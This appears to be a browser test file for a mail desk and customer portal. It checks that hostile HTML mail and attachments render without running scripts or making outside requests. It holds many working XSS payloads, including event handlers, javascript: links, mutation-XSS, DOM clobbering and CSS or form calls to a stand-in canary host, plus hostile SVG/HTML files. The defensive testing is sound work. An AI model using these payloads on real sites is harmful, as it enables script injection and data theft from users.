/**
 * Hostile mail in a real browser, read and shown as the product does: in the pane's own frame and on the portal's page.
 * Nothing runs, nothing is fetched from elsewhere, nothing leaves its box, and no second wall has anything left to stop.
 */
import { existsSync, readFileSync } from "node:fs";
import { afterAll, beforeAll, expect, test } from "@jest/globals";
import type { BrowserContext, Page } from "playwright-core";
import { headersFor } from "../../server/desk/attachments/download.ts";
import { readMail } from "../../server/desk/mail/reading/read.ts";
import { safeHtml } from "../../server/desk/mail/reading/safe-html.ts";
import { releasedWords } from "../../server/release/words.ts";
import {
  aCustomer,
  aPortal,
  aRelease,
  aReleasedFile,
  aSignedIn,
  aTicketOf,
  type PortalWorld,
} from "../portal/world.ts";
import { eventually } from "../wall/world.ts";
import { anEntry, aTicket, mailOf, newId } from "./desk.ts";
import { type PaneWindows, paneWindows } from "./windows.ts";

let pane: PaneWindows;
let portal: PortalWorld;
beforeAll(async () => {
  [pane, portal] = await Promise.all([paneWindows(), aPortal()]);
}, 120_000);
afterAll(async () => {
  await pane?.close();
  await portal?.end();
});

const canary = "https://canary.test";
const ours = [
  `<script>top.pwned=1</script><scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<img src=x onerror="top.pwned=1"><svg/onload=alert(1)><body onload=alert(1)><details open ontoggle=alert(1)>`,
  `<a href="javascript:alert(1)">1</a><a href=" jav&#x09;ascript:alert(1)">2</a><a href="data:text/html,<script>alert(1)</script>">3</a>`,
  `<iframe srcdoc="<script>top.pwned=1</script>"></iframe><object data="javascript:alert(1)"></object><embed src="${canary}/e">`,
  `<meta http-equiv=refresh content="0;url=${canary}/r"><base href="${canary}/"><link rel=stylesheet href="${canary}/l.css"><link rel=dns-prefetch href="${canary}">`,
  `<form action="${canary}/f" id=f><input name=code autofocus onfocus=alert(1)><button formaction="${canary}/b">Sign in</button></form>`,
  `<style>@import url(${canary}/i.css);@font-face{font-family:x;src:url(${canary}/x.woff)}a[href^="/t"]{background:url(${canary}/a)}*{position:fixed!important}</style>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red;width:100vw;height:100vh">Over everything</div>`,
  `<div style="margin:-9999px;margin-top:-500px;padding:500px;background:red">Above</div><p style="margin-left:-\\31 00px;transform:translateY(-900px)">Moved</p>`,
  `<div style="background:url(${canary}/bg);list-style-image:url('${canary}/li');width:expression(alert(1));-moz-binding:url(${canary}/xbl)">Styled</div>`,
  `<img src="${canary}/1.png" srcset="${canary}/2.png 2x" width=1 height=1><video poster="${canary}/v" src="${canary}/v.mp4"></video><table background="${canary}/t"><tr><td background="${canary}/d">x</table><picture><source srcset="${canary}/p"></picture>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><img src=x onerror=alert(1)></template><xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>`,
  `<form name=getElementById></form><img name=cookie><a id=location href="${canary}/loc">named</a><div id=root class=words>clobbered</div>`,
  `<p style="font-size:99999px;line-height:0">Huge</p><table width=99999 height=1><tr><td>Wide</table>`,
];

const corpus = "../shared/data/html-xss.json";
const known: string[] = existsSync(corpus)
  ? JSON.parse(readFileSync(corpus, "utf8")).items.map(({ payload }: { payload: string }) => payload)
  : [];
const which = known.length
  ? `${ours.length} attacks of our own and ${known.length} known ones`
  : `${ours.length} attacks of our own (skipped: the known ones are not on this machine)`;

/** The words of mails with these bodies, many in one timeline entry. */
async function readAsMails(bodies: string[]) {
  const read = bodies.map((body) =>
    readMail(Buffer.from(`From: Mallory <m@mallory.test>\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${body}`)),
  );
  const mails = (await Promise.all(read)).map(({ visibleHtml, quotedHtml }) => ({ visibleHtml, quotedHtml }));
  return mails.reduce<(typeof mails)[]>((lots, mail, n) => {
    if (n % 50 === 0) lots.push([]);
    lots.at(-1)?.push(mail);
    return lots;
  }, []);
}

/** What a window does that nobody asked it for; a request also when a policy stops it. */
function watch(context: BrowserContext, page: Page) {
  const seen: string[] = [];
  const own = new Set(["localhost", "127.0.0.1"]);
  page.on("dialog", (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    return dialog.dismiss();
  });
  page.on("console", (message) => {
    if (message.type() === "error" && !message.text().includes(brokenPicture)) seen.push(`console: ${message.text()}`);
  });
  page.on("pageerror", (error) => seen.push(`error: ${error.message}`));
  page.on("popup", (popup) => seen.push(`popup: ${popup.url()}`));
  page.on("download", (file) => seen.push(`download: ${new URL(file.url()).pathname}`));
  context.on("request", (request) => {
    const { protocol, hostname, pathname } = new URL(request.url());
    if (protocol.startsWith("http") && (!own.has(hostname) || pathname.includes("pwned")))
      seen.push(`request: ${request.url()}`);
  });
  return seen;
}

/** What is wrong with the words on a page, after every event that an attack could wait for. */
const faultsOf = (page: Page) =>
  page.evaluate(() => {
    const frames = [...document.querySelectorAll("iframe")].flatMap(({ contentDocument }) => contentDocument ?? []);
    const boxes = [...frames.map(({ body }) => body), ...document.querySelectorAll<HTMLElement>(".words")];
    const all = boxes.flatMap((box) => [...box.querySelectorAll<HTMLElement>("*")]);
    for (const element of all)
      for (const event of ["mouseover", "focus", "click", "error", "load", "toggle", "submit", "animationend"])
        element.dispatchEvent(new Event(event));

    const links = all.filter((element) => element.matches("a[href]")) as HTMLAnchorElement[];
    const badLinks = links.filter(
      ({ href, rel }) => !/^(https?:|mailto:|tel:)/i.test(href) || !rel.includes("noopener noreferrer"),
    );
    const named = all.filter((element) => element.id || element.hasAttribute("name"));
    const covered = [...document.querySelectorAll("a, button, textarea, input, summary, [contenteditable]")].filter(
      (control) => {
        if (control.closest(".words") || !control.checkVisibility()) return false;
        control.scrollIntoView({ block: "center" });
        const { left, top, width, height } = control.getBoundingClientRect();
        const onTop = document.elementFromPoint(left + width / 2, top + height / 2);
        return onTop?.closest("iframe, .words") ?? false;
      },
    );
    const words = (what: string, elements: Element[]) =>
      elements.map((element) => `${what}: ${element.outerHTML.slice(0, 200)}`);
    return {
      shown: all.length,
      pwned: "pwned" in window,
      faults: [...words("link", badLinks), ...words("named", named), ...words("covered", covered)],
    };
  });

test(`the pane shows ${which}, and nothing happens`, async () => {
  const lots = await readAsMails([...ours, ...known]);
  const entries = lots.map((mails, n) =>
    anEntry({
      id: newId(600 + n),
      author: { side: "customer", name: `<img src=x onerror=alert("${n}")>`, address: "m@mallory.test" },
      html: mails.map(({ visibleHtml, quotedHtml }) => `<div>${visibleHtml}${quotedHtml}</div>`).join(""),
    }),
  );
  const ticket = aTicket({ subject: `"><svg onload=alert(1)>`, entries });
  const { page, strangers, complaints, watched } = await aPane(ticket, entries.length);
  const { faults, pwned, shown } = await faultsOf(page);
  expect(faults).toEqual([]);
  expect([watched, strangers, complaints, pwned]).toEqual([[], [], [], false]);
  expect(page.url()).toContain("/addin/pane.html");
  expect(shown).toBeGreaterThan(ours.length);
});

/** What the browser says of a picture whose data in the words is no picture. */
const brokenPicture = "net::ERR_INVALID_URL";

/** The pane with a ticket, when its frames have loaded. */
async function aPane(ticket: ReturnType<typeof aTicket>, frames: number) {
  const opened = await pane.open({ answers: { "/api/mails/open": mailOf(1042), "/api/tickets/1042": ticket } });
  const { page, strangers } = opened;
  const watched = watch(page.context(), page);
  await eventually(
    async () =>
      (await page.evaluate(
        () =>
          [...document.querySelectorAll("iframe")].filter(({ contentDocument }) => contentDocument?.body?.firstChild)
            .length,
      )) >= frames,
  );
  const complaints = opened.complaints.filter((complaint) => !complaint.includes(brokenPicture));
  return { page, strangers, complaints, watched };
}

test("words that were never made safe still run nothing and fetch nothing in the pane's frame", async () => {
  const entries = ours.map((html, n) => anEntry({ id: newId(600 + n), html }));
  const { page, strangers, watched } = await aPane(aTicket({ entries }), entries.length);
  const { pwned, faults } = await faultsOf(page);
  expect(pwned).toBe(false);
  expect(faults.filter((fault) => fault.startsWith("covered"))).toEqual([]);
  // What is refused is told on the console, and what the policy stops is no request to anybody.
  expect(strangers).toEqual([]);
  expect(watched.filter((one) => !/^(request|console: )/.test(one))).toEqual([]);
  expect(page.url()).toContain("/addin/pane.html");
});

test(`the portal shows the released words of ${which}, and nothing happens`, async () => {
  const alice = await aCustomer(portal, { name: "Alice Moreau" });
  const ticket = await aTicketOf(portal, alice, { subject: `"><svg onload=alert(1)>` });
  const none = { contentIds: new Set<string>(), embedded: true };
  for (const mails of await readAsMails([...ours, ...known])) {
    const html = mails.map(({ visibleHtml, quotedHtml }) =>
      safeHtml(releasedWords({ html: visibleHtml, quotedHtml }, none)),
    );
    await aRelease(portal, ticket, { html: html.join(""), authorName: `<img src=x onerror=alert(1)>` });
  }
  const { page, context, watched } = await aCustomersWindow(alice);
  await page.goto(`/tickets/${ticket.number}`);
  const { faults, pwned, shown } = await faultsOf(page);
  expect(faults).toEqual([]);
  expect([watched, pwned]).toEqual([[], false]);
  expect(page.url()).toBe(`${portal.url}/tickets/${ticket.number}`);
  expect(shown).toBeGreaterThan(ours.length);
  await context.close();
});

async function aCustomersWindow(customer: Parameters<typeof aSignedIn>[1]) {
  const context = await pane.browser.newContext({ baseURL: portal.url });
  const { cookies } = await aSignedIn(portal, customer);
  for (const [name, { value, path }] of cookies) await context.addCookies([{ name, value, path, domain: "127.0.0.1" }]);
  const page = await context.newPage();
  return { context, page, watched: watch(context, page) };
}

const acts = `top.pwned=1;alert(document.domain);fetch("/pwned");location="/pwned"`;
const html = `<html xmlns="http://www.w3.org/1999/xhtml"><body onload='${acts}'><script>${acts}</script></body></html>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload='${acts}'><script>${acts}</script></svg>`;
const files = [
  { type: "image/svg+xml", name: "a.svg", content: svg },
  { type: "text/html", name: "a.html", content: html },
  { type: "text/html;x", name: "a.html", content: html },
  { type: "application/xhtml+xml", name: "a.xhtml", content: html },
  { type: "text/xml", name: "a.xml", content: svg },
  { type: "multipart/related", name: "a.mhtml", content: `Content-Type: text/html\r\n\r\n${html}` },
  { type: "text/html; charset=utf-7", name: "a", content: "+ADw-script+AD4-alert(1)+ADw-/script+AD4-" },
  { type: "", name: "a.htm", content: html },
  { type: "image/png", name: "a.png", content: html },
];

test.each(["the desk", "the portal"])(
  "a file that could run is only kept when its address at %s is opened",
  async (where) => {
    const alice = await aCustomer(portal);
    const release = await aRelease(portal, await aTicketOf(portal, alice));
    pane.app.get("/kept/:n", (req, res) => {
      const { content = "", type = "", name = "" } = files[Number(req.params.n)] ?? {};
      res.set(headersFor({ type, name, size: content.length })).end(content);
    });
    const { page, context, watched } = await aCustomersWindow(alice);
    for (const [n, file] of files.entries()) {
      const path =
        where === "the desk" ? `${pane.origin}/kept/${n}` : `/files/${await aReleasedFile(portal, release, file)}`;
      const isShown = file.type === "image/png" && where === "the portal";
      const kept = isShown ? Promise.resolve() : page.waitForEvent("download");
      await page.goto(path).catch((error: Error) => expect(error.message).toContain("Download is starting"));
      await kept;
      expect([file, await page.evaluate(() => "pwned" in window)]).toEqual([file, false]);
    }
    expect(watched.filter((one) => !one.startsWith("download: /"))).toEqual([]);
    await context.close();
  },
);
